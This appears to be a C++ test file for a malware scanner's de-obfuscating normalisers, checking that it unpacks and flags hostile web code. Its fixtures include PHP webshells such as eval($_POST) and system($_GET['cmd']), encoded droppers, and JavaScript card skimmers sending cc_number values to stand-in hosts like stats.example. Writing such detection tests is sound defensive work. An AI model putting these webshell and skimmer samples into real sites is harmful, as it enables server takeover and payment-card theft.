// The normalisers (PHP, JS, HTML) and the behaviour traits read off their output: folding
// and decoding cases, broken and hostile input (bounded, never a crash), and the false
// alarms seen on clean trees.
#include "webroot/normalize.h"

#include <gtest/gtest.h>
#include <zlib.h>

#include <algorithm>
#include <chrono>
#include <string>

#include "webroot/code_lexer.h"

namespace tq::webroot {
namespace {

std::string Base64(std::string_view in) {
  static const char* a = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string out;
  size_t i = 0;
  for (; i + 2 < in.size(); i += 3) {
    uint32_t v = (uint8_t(in[i]) << 16) | (uint8_t(in[i + 1]) << 8) | uint8_t(in[i + 2]);
    for (int k = 3; k >= 0; --k) out += a[(v >> (6 * k)) & 63];
  }
  if (in.size() - i == 1) {
    uint32_t v = uint8_t(in[i]) << 16;
    out += a[(v >> 18) & 63], out += a[(v >> 12) & 63], out += "==";
  } else if (in.size() - i == 2) {
    uint32_t v = (uint8_t(in[i]) << 16) | (uint8_t(in[i + 1]) << 8);
    out += a[(v >> 18) & 63], out += a[(v >> 12) & 63], out += a[(v >> 6) & 63], out += '=';
  }
  return out;
}

std::string Deflate(std::string_view in) {
  z_stream z{};
  deflateInit2(&z, 9, Z_DEFLATED, -15, 8, Z_DEFAULT_STRATEGY);
  std::string out(deflateBound(&z, in.size()), '\0');
  z.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(in.data()));
  z.avail_in = static_cast<uInt>(in.size());
  z.next_out = reinterpret_cast<Bytef*>(out.data());
  z.avail_out = static_cast<uInt>(out.size());
  deflate(&z, Z_FINISH);
  out.resize(z.total_out);
  deflateEnd(&z);
  return out;
}

bool HasTrait(const NormalizedCode& n, std::string_view id) {
  for (const CodeTrait& t : n.traits)
    if (t.id == id) return true;
  return false;
}
int Best(const NormalizedCode& n) {
  int b = 0;
  for (const CodeTrait& t : n.traits) b = std::max(b, t.strength);
  return b;
}
std::string AllText(const NormalizedCode& n) {
  std::string s;
  for (const CodeLayer& l : n.layers) s += "[" + l.path + "]" + l.text + "\n";
  return s;
}

NormalizedCode Php(std::string_view src) { return Normalize(src, CodeKind::kPhp); }
NormalizedCode Js(std::string_view src) { return Normalize(src, CodeKind::kJs); }

TEST(Normalize, CommentsGoneAndConcatenationFolded) {
  auto n =
      Php("<?php /* eval($_POST[1]) */ // system($x)\n# passthru\n$f = "
          "'ba'.'se'.(32*2).'_de'.'code'; echo \"\\x61\\163\\u{73}ert\";");
  std::string t = n.layers.at(0).text;
  EXPECT_EQ(t.find("eval"), std::string::npos) << t;
  EXPECT_EQ(t.find("passthru"), std::string::npos) << t;
  EXPECT_NE(t.find("'base64_decode'"), std::string::npos) << t;
  EXPECT_NE(t.find("'assert'"), std::string::npos) << t;
  EXPECT_EQ(Best(n), 0) << AllText(n);
}

TEST(Normalize, VariableFunctionOnRequestWithoutEval) {
  auto n = Php("<?php ($_=@$_REQUEST[q]).@$_($_REQUEST[z]);");
  EXPECT_TRUE(HasTrait(n, "php.request_as_function")) << AllText(n);
  EXPECT_EQ(Best(n), 4);
}

TEST(Normalize, BuiltNameAndDecodedPayloadNameTheLayerPath) {
  std::string payload = "eval($_POST['c']);";
  std::string src = "<?php $a='as'; $b=$a.'s'.'ert'; $d='b'.$a.'e'.(64).'_decode'; @$b(@$d('" +
                    Base64(payload) + "'));";
  auto n = Php(src);
  ASSERT_GE(n.layers.size(), 2u) << AllText(n);
  EXPECT_EQ(n.layers[1].path, "php>base64_decode");
  EXPECT_NE(n.layers[1].text.find("eval($_POST['c'])"), std::string::npos);
  bool in_layer = false;
  for (const CodeTrait& t : n.traits)
    if (t.id == "php.request_to_exec" && t.layer == "php>base64_decode") in_layer = true;
  EXPECT_TRUE(in_layer) << AllText(n);
}

// An exploit's request (or a dropper's text) carrying the shell it plants as base64 in the
// middle of a longer literal: the shell is a layer of its own.
TEST(Normalize, PhpTagInBase64InsideALongerLiteral) {
  std::string shell = Base64("<?php system($_GET[\"x\"]); ?>");
  while (!shell.empty() && shell.back() == '=') shell.pop_back();
  auto n = Php("<?php $exp = '/cat/view.php?size={${fputs(fopen(\"s.php\",\"w\"),base64_decode(" +
               shell + "))}}&order='; send($host, $exp);");
  EXPECT_EQ(Best(n), 4) << AllText(n);
  bool layer = false;
  for (const CodeLayer& l : n.layers) layer = layer || l.path == "php>base64?";
  EXPECT_TRUE(layer) << AllText(n);
  // Base64 of ordinary text in a URL, and "PD9" inside a longer word: nothing decoded.
  auto plain = Php("<?php $u = '/api?token=" + Base64("Hello there, general text") +
                   "&id=1'; $w = 'xPD9waHAgc3lzdGVtKCRf';");
  EXPECT_EQ(plain.layers.size(), 1u) << AllText(plain);
}

// A stylesheet carrying script in a comment, or base64 of it in a custom property, for a
// loader to cut out and run: the script is a layer "css>js" and judged as JavaScript.
TEST(Normalize, ScriptCarriedInAStylesheet) {
  std::string skimmer =
      "document.addEventListener('submit', function () {"
      " var n = document.querySelector('[name*=cc_number]').value;"
      " new Image().src = 'https://pixel.example.top/p.gif?d=' + btoa(n); });";
  auto in_comment = NormalizeStylesheet(".logo { width: 10px; }\n/*" + skimmer + "*/\n.a{}");
  ASSERT_TRUE(in_comment.has_value());
  EXPECT_GE(Best(*in_comment), 3) << AllText(*in_comment);
  EXPECT_EQ(in_comment->layers[0].path, "css>js");
  auto in_property = NormalizeStylesheet(":root { --i: " + Base64(skimmer) + "; }\nbody{}");
  ASSERT_TRUE(in_property.has_value());
  EXPECT_GE(Best(*in_property), 3) << AllText(*in_property);
  // Comments, fonts and data URIs of an ordinary stylesheet carry no script.
  EXPECT_FALSE(
      NormalizeStylesheet("/*! Theme v2 | MIT */ .btn:hover { color: red; }\n"
                          "@font-face { font-family: 'Open Sans'; src: url(\"a.woff2\"); }\n"
                          "/* the value function of the theme's button */")
          .has_value());
}

TEST(Normalize, GzinflateBase64ChainAndHexEscapedPregE) {
  std::string inner = "<?php system($_GET['cmd']); ?>";
  std::string src = "<?php eval(gzinflate(base64_decode('" + Base64(Deflate(inner)) + "')));";
  auto n = Php(src);
  EXPECT_TRUE(HasTrait(n, "php.request_to_shell")) << AllText(n);
  bool path = false;
  for (const CodeLayer& l : n.layers)
    path |= l.path == "php>eval>base64_decode>gzinflate" || l.path == "php>base64_decode>gzinflate";
  EXPECT_TRUE(path) << AllText(n);
  // preg_replace with /e spelled in hex escapes, replacement taken from the request.
  auto p = Php("<?php preg_replace(\"\\x2f\\x2e\\x2a\\x2f\\x65\", $_POST['x'], 'a');");
  EXPECT_TRUE(HasTrait(p, "php.request_to_exec")) << AllText(p);
}

TEST(Normalize, StrRot13StrrevHex2binPackUrldecodeChr) {
  auto n =
      Php("<?php $f = str_rot13('flfgrz'); $g = strrev('tressa'); $h = hex2bin('73797374656d');"
          " $i = pack('H*', '6576616c'); $j = urldecode('%61%73sert'); $k = "
          "chr(101).chr(118).chr(97).chr(108);");
  std::string t = n.layers.at(0).text;
  for (const char* w : {"'system'", "'assert'", "'eval'"})
    EXPECT_NE(t.find(w), std::string::npos) << w << " in " << t;
}

TEST(Normalize, StringXorAndBareWords) {
  // 'a'^'b' style names: PHP computes them byte by byte.
  std::string a = "sys", b = "\x20\x20\x20";
  std::string x;
  for (size_t i = 0; i < a.size(); ++i) x += static_cast<char>(a[i] ^ b[i]);
  auto n = Php("<?php $n = '" + x + "' ^ '   '; echo $n;");
  EXPECT_NE(n.layers.at(0).text.find("'sys'"), std::string::npos) << AllText(n);
}

TEST(Normalize, JsStringArrayFromCharCodeAtobAndBracketCalls) {
  std::string url = "https://evil.example/c.js";
  std::string src = "var _0xa1=['createElement','script','src','" + Base64(url) +
                    "'];var s=document[_0xa1[0]](_0xa1[1]);s[_0xa1[2]]=this['atob'](_0xa1[3]);"
                    "var k=String.fromCharCode(99,104,101,99,107,111,117,116);";
  auto n = Js(src);
  std::string t = n.layers.at(0).text;
  EXPECT_NE(t.find("document.createElement('script')"), std::string::npos) << t;
  EXPECT_NE(t.find("'" + url + "'"), std::string::npos) << t;
  EXPECT_NE(t.find("'checkout'"), std::string::npos) << t;
  EXPECT_TRUE(HasTrait(n, "js.script_injection")) << AllText(n);
}

TEST(Normalize, JsCardFieldsSentThroughAnImage) {
  auto n =
      Js("document.querySelectorAll('input').forEach(function(i){d[i.name]=i.value});"
         "if(d['payment[cc_number]']){var m=new "
         "Image();m.src='https://stats.example/p?d='+btoa(JSON.stringify(d));}");
  EXPECT_TRUE(HasTrait(n, "js.card_exfil")) << AllText(n);
  EXPECT_GE(Best(n), 3);
  // The same form code posting to the store itself is not exfiltration.
  auto own =
      Js("var d=jQuery('#co-payment-form').serialize(); jQuery.post('/checkout/payment', d);"
         "var cc=jQuery('[name=\"payment[cc_number]\"]').val();");
  EXPECT_FALSE(HasTrait(own, "js.card_exfil")) << AllText(own);
}

TEST(Normalize, ScriptsOfMarkupInsidePhpKeepTheirText) {
  // The markup around PHP is gathered into a layer of its own; its scripts outlive it in the
  // queue (a libFuzzer run under ASan found them read after that layer was freed).
  auto n = Normalize(
      "<html><script src=\"//a.example/x.js\"></script><script>var a=unescape('%75%61');"
      "</script><?= $x ?></html>",
      CodeKind::kPhp);
  bool found = false;
  for (const CodeLayer& l : n.layers)
    if (l.path == "php>html>script#1") {
      found = true;
      EXPECT_NE(l.text.find("var a='ua'"), std::string::npos) << l.text;
    }
  EXPECT_TRUE(found);
}

TEST(Normalize, HtmlForeignScriptIsWeakAlone) {
  auto n =
      Normalize("<html><script src=\"//cdn.other.example/x.js\"></script></html>", CodeKind::kHtml);
  EXPECT_TRUE(HasTrait(n, "html.external_script"));
  EXPECT_EQ(Best(n), 1);
}

TEST(Normalize, ShallowTaintKeepsFrameworkCallbacksQuiet) {
  // A router calling a controller callback with request data is not a webshell.
  auto n =
      Php("<?php $params = $_GET; $controller = $this->resolve($route); "
          "return call_user_func_array([$controller, 'handle'], [$params]);");
  EXPECT_FALSE(HasTrait(n, "php.request_to_exec")) << AllText(n);
  // A template engine evaluating compiled code is weak alone.
  auto t = Php("<?php eval('?>' . $compiled);");
  EXPECT_LE(Best(t), 2);
}

TEST(Normalize, EventHandlersOfMarkupAreScripts) {
  // An SVG whose onload decodes and runs a card grabber; the attribute's quotes as references.
  auto n = Normalize(
      "<div>Footer</div><svg onload=\"var f=document.getElementById(&quot;cc_number&quot;);"
      "new Image().src='https://collect.example/p?d='+btoa(f.value)\"></svg>",
      CodeKind::kHtml);
  EXPECT_TRUE(std::any_of(n.layers.begin(), n.layers.end(),
                          [](const CodeLayer& l) { return l.path == "html>handler#1"; }));
  EXPECT_GE(Best(n), 3) << AllText(n);
  // Handlers in a PHP template's markup too.
  auto p = Normalize(
      "<?php echo $title; ?><img src=x onerror=\"var s=document.createElement('script');"
      "s.src='https://loader.example/a.js';document.body.appendChild(s)\">",
      CodeKind::kPhp);
  EXPECT_TRUE(std::any_of(p.traits.begin(), p.traits.end(), [](const CodeTrait& t) {
    return t.host == "loader.example";
  })) << AllText(p);
  // Short handlers (a menu toggle) are left alone; so is text that only says "on".
  auto q =
      Normalize("<a onclick=\"go(1)\">on=\"not a handler at all, just text\"</a>", CodeKind::kHtml);
  for (const CodeLayer& l : q.layers) EXPECT_EQ(l.path.find("handler"), std::string::npos);
}

TEST(Normalize, PhpWithoutAnOpenTagIsReadAsAPayload) {
  EXPECT_TRUE(BarePhpPayload("$f = fopen($_SERVER['DOCUMENT_ROOT'] . '/x.php', 'w');\n"));
  EXPECT_TRUE(BarePhpPayload("GIF89a\nerror_reporting(0);\n$x = 1;"));
  EXPECT_TRUE(HasTrait(Normalize("$c = $_POST['c'];\nsystem($c);\n", CodeKind::kPhp),
                       "php.request_to_shell"));
  // Markup, prose and a file with a tag further in are not payloads.
  EXPECT_FALSE(BarePhpPayload("<h1>This is the alternate template</h1>"));
  EXPECT_FALSE(BarePhpPayload("Content from TestPlugin.Element/sub_dir/sub_element\n"));
  EXPECT_FALSE(BarePhpPayload("$x = 1;\n<?php echo $x;"));
  EXPECT_FALSE(BarePhpPayload(""));
}

TEST(Normalize, ShortBase64OfAnOpenTagIsDecoded) {
  // "<?php @eval($_POST['k'])?>" in 40 bytes of base64: too short for a blob, decoded anyway.
  auto n = Normalize(
      "<?php $p = 'PD9waHAgQGV2YWwoJF9QT1NUWydrJ10pPz4='; $p = base64_decode($p);"
      " file_put_contents('/tmp/' . md5(1), $p);",
      CodeKind::kPhp);
  EXPECT_TRUE(HasTrait(n, "php.request_to_exec")) << AllText(n);
}

TEST(Normalize, LayersReachedTwiceAreReadOnce) {
  // The folds decode the literal, and so does the blob guess: one layer.
  std::string blob = "ZWNobyAnaGVsbG8nOyAkYSA9IDE7ICRiID0gMjsgJGMgPSAkYSArICRiOyBlY2hvICRjOw==";
  auto n = Normalize("<?php $s = base64_decode('" + blob + "'); eval($s);", CodeKind::kPhp);
  int decoded = 0;
  for (const CodeLayer& l : n.layers) decoded += l.text.find("echo 'hello'") != std::string::npos;
  EXPECT_EQ(decoded, 1) << AllText(n);
}

// --- broken and hostile input: bounded, never a crash ------------------------------

TEST(NormalizeBroken, UnterminatedStringsCommentsHeredocs) {
  for (std::string src : {"<?php $a = 'never closed", "<?php $a = \"never \\", "<?php /* open",
                          "<?php $x = <<<EOT\nno end", "<?php $x = <<<'N'\n", "<?php `ls",
                          "<?php $a = '\\", "<?php \"\\u{110000", "<?php \"\\u{", "<?php \"\\x"}) {
    auto n = Php(src);
    EXPECT_EQ(n.layers.size(), 1u) << src;
  }
  for (std::string src : {"var a = 'open", "/* open", "x = /[/", "`${", "a = \"\\u{zz"}) {
    auto n = Js(src);
    EXPECT_EQ(n.layers.size(), 1u) << src;
  }
}

TEST(NormalizeBroken, HundredNestedEncodingLayersStopAtTheDepthLimit) {
  std::string code = "system($_GET['c']);";
  // gzinflate keeps each layer about the size of the one inside (base64 alone would grow
  // the sample by 4/3 a layer, past any disk).
  for (int i = 0; i < 100; ++i)
    code = "eval(gzinflate(base64_decode('" + Base64(Deflate(code)) + "')));";
  ASSERT_LT(code.size(), 1u << 20);
  auto start = std::chrono::steady_clock::now();
  auto n = Php("<?php " + code);
  double secs = std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
  EXPECT_LT(secs, 10.0);
  EXPECT_TRUE(n.truncated);
  EXPECT_LE(n.layers.size(), NormalizeLimits().max_layers);
  for (const CodeLayer& l : n.layers) EXPECT_LE(l.depth, NormalizeLimits().max_depth);
}

TEST(NormalizeBroken, FiftyMegabyteSingleLine) {
  std::string big = "<?php $a = '";
  big.append(50u << 20, 'A');
  big += "'; eval($_POST['x']);";
  auto start = std::chrono::steady_clock::now();
  auto n = Php(big);
  double secs = std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
  EXPECT_LT(secs, 20.0);
  EXPECT_TRUE(n.truncated);  // the input cap cut it
  size_t total = 0;
  for (const CodeLayer& l : n.layers) total += l.text.size();
  EXPECT_LE(total, NormalizeLimits().max_layers * NormalizeLimits().max_layer_text);
  std::string js = "var a='";
  js.append(50u << 20, 'b');
  auto j = Js(js);
  EXPECT_TRUE(j.truncated);
}

TEST(NormalizeBroken, DoublingConcatenationIsCharged) {
  std::string src =
      "<?php $a0 = 'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA';";
  for (int i = 1; i < 60; ++i)
    src += "$a" + std::to_string(i) + " = $a" + std::to_string(i - 1) + " . $a" +
           std::to_string(i - 1) + ";";
  auto start = std::chrono::steady_clock::now();
  auto n = Php(src);
  double secs = std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
  EXPECT_LT(secs, 10.0);
  EXPECT_TRUE(n.truncated);
}

TEST(NormalizeBroken, DeepNestsOfLoopsAndFunctionsStayLinear) {
  // Loop bodies are scanned ahead and function bodies for the parameters they call: a nest
  // of 20,000 of each must not make those scans quadratic.
  std::string loops = "<?php $c = 'x';", funcs = "<?php ";
  for (int i = 0; i < 20000; ++i) {
    loops += "while ($c) { $c = $c . 'a';";
    funcs += "function f" + std::to_string(i) + "($a, $b) { $a($b);";
  }
  auto start = std::chrono::steady_clock::now();
  (void)Php(loops);
  (void)Php(funcs);
  double secs = std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
  EXPECT_LT(secs, 10.0);
}

TEST(NormalizeBroken, InvalidUtf8AndControlCharacters) {
  std::string src = "<?php $\xff\xfe = '\xc3\x28\x00\x01'; \x80\x81 eval(\"\\xff\\x00\");\x1b[31m";
  auto n = Php(src);
  EXPECT_EQ(n.layers.size() >= 1, true);
  auto j = Js(std::string("var \xe2\x28\xa1 = '\xff\x00'; \x00\x00 atob('\xff\xff\xff\xff');", 44));
  EXPECT_EQ(j.layers.size(), 1u);
  // A zip bomb behind gzinflate stops at the layer cap.
  std::string zeros(64u << 20, '\0');
  auto z = Php("<?php eval(gzinflate(base64_decode('" + Base64(Deflate(zeros)) + "')));");
  EXPECT_LE(z.layers.size(), 2u);
}

// --- false alarms seen on clean trees ----------------------------------------------------

TEST(NormalizeQuiet, PhpTagInImageDataIsNotCode) {
  std::string png("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00<?=\x8f\xa3\x00\x11\x92\xff\xfe\x01",
                  32);
  EXPECT_FALSE(PhpTagHoldsCode(png));
  EXPECT_EQ(ClassifyCode(png, "png"), CodeKind::kNone);
  std::string js_regex = "var re = /<?=\\s*/; ";
  EXPECT_FALSE(PhpTagHoldsCode(js_regex));
  EXPECT_TRUE(PhpTagHoldsCode("GIF89a<?php system($_GET['c']); ?>"));
  EXPECT_TRUE(PhpTagHoldsCode("\xff\xd8\xff\xe0<?=`$_GET[c]`?>"));
}

TEST(NormalizeQuiet, BackticksInDocCommentsAreNotShellCalls) {
  auto n =
      Php("<?php\n/**\n * Use `$_GET['page']` to pick the page, e.g. `?page=2`.\n */\n"
          "function page() { return (int) ($_GET['page'] ?? 1); }");
  EXPECT_EQ(Best(n), 0) << AllText(n);
}

TEST(NormalizeQuiet, LicenceEncodedLoaderIsObfuscationOnly) {
  // The loader stub of an encoded commercial extension: no request input reaches a sink.
  auto n =
      Php("<?php if(!extension_loaded('ionCube Loader')){$__oc=strtolower(substr(php_uname(),0,3));"
          "$__ln='ioncube_loader_'.$__oc.'_'.substr(phpversion(),0,3).'.so';@dl($__ln);}"
          "return;?>\nHR+cPo2kEaZ3zq1VJr8TxC8HyGmbpL0Hx6yH8s6q1");
  EXPECT_LT(Best(n), 3) << AllText(n);
}

TEST(NormalizeBroken, UnterminatedShortTagsAndPhpScriptElements) {
  // Tags cut at the end of the input, a script element with no '>', and many of them: each
  // ends the lexer cleanly.
  for (std::string src : {std::string("<?"), std::string("<?@"), std::string("<script language"),
                          std::string("<script language=\"php\""),
                          std::string("<script language=\"php\">eval($_POST['x'])")}) {
    auto n = Php(src);
    EXPECT_LE(n.layers.size(), 2u) << src;
  }
  std::string many;
  for (int i = 0; i < 100000; ++i) many += "<script language=php <";
  auto t0 = std::chrono::steady_clock::now();
  auto n = Php(many);
  EXPECT_LT(std::chrono::steady_clock::now() - t0, std::chrono::seconds(5));
  (void)n;
}

}  // namespace
}  // namespace tq::webroot

namespace tq::webroot {
namespace {

TEST(NormalizeJs, AParameterAfterADefaultObjectKeepsItsName) {
  // The constant `k` of the script is not the third parameter of f, even after a default
  // holding braces.
  auto n = Js("var k='https://evil.example/x';function f(a,b={c:{}},k){return k+a}f(1);");
  std::string t = n.layers.at(0).text;
  EXPECT_NE(t.find("return k+a"), std::string::npos) << t;
}

TEST(NormalizeJs, StringsAFileConcealsWholesaleAreNotHiddenHosts) {
  // Every string of the code rebuilt by the file's own decoder (an obfuscator's string
  // concealing): a request to the store's own checkout is not a hidden host; the same code
  // hiding only the host is.
  auto enc = [](std::string_view s) {
    std::string o;
    for (size_t i = s.size(); i-- > 0;) o += s[i];
    return "d('" + o + "')";
  };
  std::string dec = "function d(s){return s.split('').reverse().join('')}";
  std::string body;
  for (const char* w : {"querySelectorAll", "input, select", "length", "push", "name", "value",
                        "join", "open", "POST", "send", "setRequestHeader", "Content-Type"})
    body += "x(" + enc(w) + ");";
  std::string all = dec + body + "var r=new XMLHttpRequest();r[" + enc("open") + "](" +
                    enc("POST") + "," + enc("https://shop.example.com/checkout/save") +
                    ");r.send(Form.serialize(f));";
  auto n = Js(all);
  EXPECT_LT(Best(n), 3) << AllText(n);
  std::string few = dec + "var r=new XMLHttpRequest();r.open('POST'," +
                    enc("https://shop.example.com/checkout/save") + ");r.send(Form.serialize(f));";
  EXPECT_GE(Best(Js(few)), 3) << AllText(Js(few));
}

TEST(NormalizeJs, ALiteralPassedToTheFilesOwnEvalWrapperIsCode) {
  // `function w(c){..eval(c)..}` runs what it is given: its literal argument is a layer.
  auto n =
      Js("function w(c){if(self){return eval(c)}}w(\"var f=document.querySelector("
         "'#cc_number').value;new Image().src='https://x.example/c?'+btoa(f);\");");
  EXPECT_GE(Best(n), 3) << AllText(n);
  bool layer = false;
  for (const CodeLayer& l : n.layers) layer = layer || l.path.find("eval") != std::string::npos;
  EXPECT_TRUE(layer) << AllText(n);
  // A function that only prints what it is given is no wrapper.
  n =
      Js("function w(c){console.log(c)}w(\"var f=document.querySelector('#cc_number').value;"
         "new Image().src='https://x.example/c?'+btoa(f);\");");
  EXPECT_EQ(n.layers.size(), 1u) << AllText(n);
}

TEST(NormalizeJs, StringsDecodedOnComputedArgumentsAreNoHiddenHosts) {
  // A decoder called with what a state machine computes (a flattener conceals every string so):
  // the store's own checkout URL it rebuilds is obfuscated, not a host singled out.
  std::string url = "https://shop.example.com/checkout/save", enc;
  for (char c : url) enc += static_cast<char>(c + 1);
  std::string dec =
      "function d(s,k){var o='';for(var i=0;i<s.length;i++)o+=String.fromCharCode(s.charCodeAt(i)"
      "-k);return o}";
  std::string flat = dec +
                     "var s=[3,0];while(s[0]){switch(s[0]){case 3:var r=new "
                     "XMLHttpRequest();r.open('POST',d('" +
                     enc + "',s[1]+1));r.send(Form.serialize(f));s[0]=0;break}}";
  auto n = Js(flat);
  EXPECT_LT(Best(n), 3) << AllText(n);
  EXPECT_NE(AllText(n).find(url), std::string::npos) << AllText(n);
  // Called on literals, the hidden host counts as before.
  std::string few = dec + "var r=new XMLHttpRequest();r.open('POST',d('" + enc +
                    "',1));r.send(Form.serialize(f));";
  EXPECT_GE(Best(Js(few)), 3) << AllText(Js(few));
}

TEST(NormalizeJs, NamesHiddenInABase64StringArrayStillCount) {
  // An obfuscator's string table: every name base64-encoded with a case-swapped alphabet,
  // looked up through a function the normaliser does not run.
  auto swap = [](std::string s) {
    for (char& c : s)
      c = std::isupper(static_cast<unsigned char>(c)) ? static_cast<char>(std::tolower(c))
                                                      : static_cast<char>(std::toupper(c));
    return s;
  };
  std::string table;
  for (const char* w :
       {"payment[cc_number]", "checkout", "Image", "src", "https://cdn-stats.example/i.gif"})
    table += "'" + swap(Base64(w)) + "',";
  auto n =
      Js("var _0x3f2a=[" + table +
         "];function _0x1b(i){return atob(_0x3f2a[i]);}"
         "var v=document[_0x1b(0)];var m=new window[_0x1b(2)]();m[_0x1b(3)]=_0x1b(4)+btoa(v);");
  EXPECT_TRUE(HasTrait(n, "js.card_exfil")) << AllText(n);
  EXPECT_EQ(Best(n), 4);
}

TEST(Normalize, DefaultsSetOnlyWhenAbsentAreNotFolded) {
  // if (!isset($d)) $d = '': the value is a default, not what $d holds at its uses.
  std::string t = Php("<?php if (!isset($d)) $d = ''; if (empty($f)) { $f = 'a.txt'; }"
                      " unlink($d . $f);")
                      .layers.at(0)
                      .text;
  EXPECT_NE(t.find("unlink($d.$f)"), std::string::npos) << t;
  // Plain and unconditional assignments still fold, and so does a default of another name.
  t = Php("<?php $d = 'b' . 'ase'; if ($x) $e = 'y'; echo $d;").layers.at(0).text;
  EXPECT_NE(t.find("echo'base'"), std::string::npos) << t;
  t = Php("<?php if (!isset($x)) $d = 'tmp'; echo $d;").layers.at(0).text;
  EXPECT_NE(t.find("echo'tmp'"), std::string::npos) << t;
}

}  // namespace
}  // namespace tq::webroot
